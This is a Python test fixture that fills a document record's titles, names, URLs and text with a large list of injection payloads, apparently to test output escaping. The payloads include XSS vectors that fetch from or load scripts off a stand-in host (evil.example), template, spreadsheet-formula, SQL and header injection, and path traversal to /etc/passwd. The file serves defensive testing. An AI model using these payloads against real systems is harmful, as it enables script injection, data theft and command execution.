"""Words that strangers write so that a browser, a spreadsheet or a server does their bidding."""

from __future__ import annotations

from pathlib import Path

from tests.factory import actor, fact, voice

from dragoman.model import (
    Agreement,
    AgreementRef,
    Commitment,
    Fact,
    Layout,
    Meeting,
    Page,
    Position,
    Reading,
    RoleHolder,
    Statement,
    Zone,
    ZoneKind,
)
from dragoman.record import open_record

EVIL = "https://evil.example"
_RUN = f"document.title='ran';fetch('{EVIL}')"
PAYLOADS: tuple[str, ...] = (
    # scripts and what loads them
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT>",
    "<script>alert(1)//",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    "<<script>alert(1)</script>",
    f"</script><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    # handlers
    f"<img src=x onerror=\"{_RUN}\">",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    # out of an attribute
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1) y=",
    "\" style=\"background:url(https://evil.example/s)\" x=\"",
    # out of what surrounds
    "</title><svg/onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    # elements that load, lead away or deceive
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<form action={EVIL}><button>Save</button></form>",
    f"<a href=\"javascript:alert(1)\">x</a><a href={EVIL} ping={EVIL}>y</a>",
    f"<style>@import '{EVIL}/x.css';</style>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # entities, templates, odd letters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onfocus=alert(1) autofocus &quot;",
    "{{ 7 * 7 }}{{ frame.proof }}{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    # letters that turn, hide or end
    "\u202egnp.exe\u202c",
    "\u2066\u2067isolated\u2069 \u200f\u200e",
    "\u061c\u200d\ufeff unseen",
    "nul\x00<img src=x onerror=alert(1)>",
    "\x1b[31mred\x1b[0m \x07\x08",
    "e" + "\u0301" * 80,
    # spreadsheets
    "=HYPERLINK(\"https://evil.example\",\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    # headers, paths, queries
    "x\r\nSet-Cookie: dragoman-who=evil\r\n\r\n<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "'; DROP TABLE pages; --",
    "\" OR 1=1 --",
    "NEAR(a b, 3) AND body : x*",
    "W" * 4000,
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "https://evil.example/\"onclick=alert(1)//",
    "blob:https://evil.example/1", "https://[::1", "http://",
)  # fmt: skip


def poisoned(path: Path) -> Path:
    """A record in which every payload is a page's title, name, outlet, address, words, and the
    name of an actor, a document and an issue."""
    with open_record(path) as record:
        for at, payload in enumerate(PAYLOADS):
            record.add(reading(payload, ADDRESSES[at % len(ADDRESSES)], f"{at} {payload}.txt"))
        record.add(reading("\n\n".join(PAYLOADS), ADDRESSES[0], "all.txt"))
    return path


def reading(payload: str, url: str, name: str) -> Reading:
    text = f"{payload}\n\nOn Monday {payload} met the Front.\n\nReader: {payload}"
    said = f"On Monday {payload} met the Front."
    on = Page(name, text, url=url, outlet=payload)
    body = text.index(said)
    comment = text.rindex("Reader:")
    zones = (
        Zone(ZoneKind.TITLE, 0, len(payload), payload),
        Zone(ZoneKind.BODY, body, body + len(said), "running text"),
        Zone(ZoneKind.COMMENT, comment, len(text), payload),
    )
    made = Layout(zones, title=payload, byline=payload)
    return Reading(on, made, tuple(_facts(on, said, payload)), "en")


def _facts(on: Page, said: str, payload: str) -> list[Fact]:
    who, front = actor(payload), actor("Front")
    ref = AgreementRef(payload, "agreement", None)
    holders = (RoleHolder("participant", who), RoleHolder("participant", front))
    return [
        fact(on, said, Meeting(holders, "talks"), why=payload),
        fact(on, said, Statement(who, cue=payload, act="say", form="direct"), voices=[voice(who)]),
        fact(on, said, Agreement(ref, "signed", (RoleHolder("signatory", who),))),
        fact(on, said, Commitment((who,), payload)),
        fact(on, said, Position(who, payload, "supports")),
    ]
